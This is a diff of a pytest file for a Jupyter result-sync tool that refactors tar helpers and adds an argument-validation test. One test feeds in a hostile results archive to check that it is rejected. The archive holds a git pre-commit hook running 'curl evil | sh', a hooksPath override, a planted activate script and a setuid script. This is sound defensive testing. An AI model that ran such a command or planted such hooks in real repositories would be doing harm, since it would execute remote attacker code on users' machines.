@@ -26,7 +26,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from burst_checks import cell, ledger_rows, run_cell, wait_until, write
+from burst_checks import cell, ledger_rows, run_cell, usage_line, wait_until, write
+from test_security import member, results_tar
 
 from burst_jupyter.errors import ResultsTooLarge
 from burst_jupyter.events import EventType
@@ -35,22 +36,6 @@ from burst_jupyter.spec import Mount
 from burst_jupyter.sync import MountPlan, receive_results, write_bundle
 
 pytestmark = [pytest.mark.timeout(120)]
-
-
-def member(name: str, data: bytes = b"", *, mode: int = 0o644, kind: bytes = tarfile.REGTYPE,
-           link: str = "") -> tuple[tarfile.TarInfo, bytes]:
-    info = tarfile.TarInfo(name)
-    info.type, info.linkname, info.size, info.mode = kind, link, len(data), mode
-    return info, data
-
-
-def results(*members: tuple[tarfile.TarInfo, bytes]) -> io.BytesIO:
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
-        for info, data in members:
-            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
-    buffer.seek(0)
-    return buffer
 
 
 def uploaded(out: Path) -> list[MountPlan]:
@@ -80,7 +65,7 @@ def test_local_edits_made_since_the_upload_are_kept_beside_the_instances_version
     (out / "deleted.txt").unlink()
     write(out / "created.txt", "the user's new file")
     os.utime(out / "touched.txt", (1, 1))  # a new mtime, the same bytes: no edit
-    got = receive_results(results(*(member(f"m/0/{name}", b"the instance's") for name in (
+    got = receive_results(results_tar(*(member(f"m/0/{name}", data=b"the instance's") for name in (
         "edited.txt", "deleted.txt", "created.txt", "untouched.txt", "touched.txt", "new.txt"))), plans,
         job_id="sweep-1a2b")
 
@@ -90,14 +75,13 @@ def test_local_edits_made_since_the_upload_are_kept_beside_the_instances_version
         "created.txt": b"the user's new file", "created.burst-conflict-sweep-1a2b.txt": b"the instance's",
         "untouched.txt": b"the instance's", "touched.txt": b"the instance's", "new.txt": b"the instance's"}
     assert [(Path(a).name, Path(b).name) for a, b in got.conflicts] == [
-        ("edited.txt", "edited.burst-conflict-sweep-1a2b.txt"), ("deleted.txt", "deleted.burst-conflict-sweep-1a2b.txt"),
-        ("created.txt", "created.burst-conflict-sweep-1a2b.txt")]
+        (f"{name}.txt", f"{name}.burst-conflict-sweep-1a2b.txt") for name in ("edited", "deleted", "created")]
     assert any("out/edited.txt was changed here since the upload" in n and "edited.burst-conflict-sweep-1a2b.txt" in n
                for n in got.notes), got.notes
     # A second transfer (a later --sync-every pull, or a reaper) replaces what the first one wrote, and still
     # never the user's edit.
-    receive_results(results(member("m/0/untouched.txt", b"later"), member("m/0/edited.txt", b"later")), plans,
-                    job_id="sweep-1a2b")
+    later = [member(f"m/0/{name}", data=b"later") for name in ("untouched.txt", "edited.txt")]
+    receive_results(results_tar(*later), plans, job_id="sweep-1a2b")
     assert (out / "untouched.txt").read_bytes() == b"later" and (out / "edited.txt").read_text() == "the user's edit"
     assert (out / "edited.burst-conflict-sweep-1a2b.txt").read_bytes() == b"later"
 
@@ -112,17 +96,17 @@ def test_nothing_is_written_into_git_or_excluded_paths_and_no_execute_bit_comes_
     write(out / "notes.txt", "plain")
     hooks = sorted(p.name for p in (out / ".git" / "hooks").iterdir())
     plans = uploaded(out)
-    got = receive_results(results(
-        member("m/0/.git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n", mode=0o755),
-        member("m/0/.GIT/config", b"[core]\n\thooksPath = /tmp\n"),
-        member("m/0/.venv/bin/activate", b"planted", mode=0o755),
-        member("m/0/.gitignore", b"!*.ckpt\n"),  # re-include, then write: judged by the rules as uploaded
-        member("m/0/model.ckpt", b"planted"),
-        member("m/0/hooks", kind=tarfile.SYMTYPE, link=".git/hooks"),
-        member("m/0/run.sh", b"#!/bin/sh\necho new\n", mode=0o755),
-        member("m/0/notes.txt", b"now executable", mode=0o755),
-        member("m/0/tool.sh", b"#!/bin/sh\n", mode=0o4777),
-        member("m/0/result.txt", b"kept")), plans, job_id="j")
+    got = receive_results(results_tar(
+        member("m/0/.git/hooks/pre-commit", data=b"#!/bin/sh\ncurl evil | sh\n", mode=0o755),
+        member("m/0/.GIT/config", data=b"[core]\n\thooksPath = /tmp\n"),
+        member("m/0/.venv/bin/activate", data=b"planted", mode=0o755),
+        member("m/0/.gitignore", data=b"!*.ckpt\n"),  # re-include, then write: judged by the rules as uploaded
+        member("m/0/model.ckpt", data=b"planted"),
+        member("m/0/hooks", tarfile.SYMTYPE, link=".git/hooks"),
+        member("m/0/run.sh", data=b"#!/bin/sh\necho new\n", mode=0o755),
+        member("m/0/notes.txt", data=b"now executable", mode=0o755),
+        member("m/0/tool.sh", data=b"#!/bin/sh\n", mode=0o4777),
+        member("m/0/result.txt", data=b"kept")), plans, job_id="j")
 
     assert sorted(p.name for p in (out / ".git" / "hooks").iterdir()) == hooks
     assert not (out / ".GIT").exists() or (out / ".GIT").samefile(out / ".git")
@@ -144,8 +128,9 @@ def test_a_local_write_error_names_each_file_and_is_no_broken_transfer(out: Path
             (out / "locked").chmod(0o755)
             (out / "locked").rmdir()
             write(out / "locked", "a file where the instance has a folder")  # then mkdir fails, for root too
-        got = receive_results(results(member("m/0/a.txt", b"a"), member("m/0/locked/x.bin", b"x"),
-                                      member("m/0/locked/y.bin", b"y"), member("m/0/z.txt", b"z")), plans)
+        got = receive_results(results_tar(member("m/0/a.txt", data=b"a"), member("m/0/locked/x.bin", data=b"x"),
+                                          member("m/0/locked/y.bin", data=b"y"), member("m/0/z.txt", data=b"z")),
+                              plans)
     finally:
         (out / "locked").chmod(0o755)
     assert got.unwritten == ["out/locked/x.bin", "out/locked/y.bin"] and got.write_error
@@ -158,8 +143,8 @@ def test_results_past_the_limit_stop_with_one_clear_error(out: Path) -> None:
     plans = uploaded(out)
     with pytest.raises(ResultsTooLarge, match=r"not brought back: out/b.bin \(600 bytes\) and any results after it, "
                        r"past the 1 kB limit \(raise it with --max-results\)") as too_large:
-        receive_results(results(member("m/0/a.bin", b"a" * 500), member("m/0/b.bin", b"b" * 600),
-                                member("m/0/c.bin", b"c")), plans, max_bytes=1000)
+        receive_results(results_tar(member("m/0/a.bin", data=b"a" * 500), member("m/0/b.bin", data=b"b" * 600),
+                                    member("m/0/c.bin", data=b"c")), plans, max_bytes=1000)
     got = too_large.value.received
     assert [p.name for p in got.files] == ["a.bin"]
     assert not (out / "b.bin").exists() and not (out / "c.bin").exists()
@@ -169,7 +154,7 @@ def test_a_killed_syncs_temporary_file_is_swept_and_none_is_left_beside_results(
     plans = uploaded(out)
     dead = int(Path("/proc/sys/kernel/pid_max").read_text()) + 1  # a process that cannot exist
     stray = write(out / ".burst-tmp" / f"{dead}.abc.burst-tmp", "half a file")
-    receive_results(results(member("m/0/sub/r.txt", b"r")), plans)
+    receive_results(results_tar(member("m/0/sub/r.txt", data=b"r")), plans)
     assert not stray.exists() and not (out / ".burst-tmp").exists()
     assert [p for p in out.rglob("*") if "burst-tmp" in p.name] == []
     assert (out / "sub" / "r.txt").read_bytes() == b"r"
@@ -232,3 +217,9 @@ def test_results_past_max_results_fail_the_job_clearly_and_it_still_settles(ip: 
     assert (tmp_path / "out" / "small.txt").read_text() == "s" and not (tmp_path / "out" / "zbig.bin").exists()
     (row,) = [r for r in ledger_rows(burst_home) if r.job_id == done.job_id]
     assert row.status == "failed" and "out/zbig.bin" in (row.message or "")
+
+
+@pytest.mark.parametrize("size", ["lots", "0", "-5GB", "1.5XB"])
+def test_a_bad_max_results_is_one_line_before_anything_runs(ip: Any, tmp_path: Path, size: str) -> None:
+    result, _ = run_cell(ip, cell(f"--provider local --max-results={size}"))
+    assert "--max-results must" in usage_line(result)
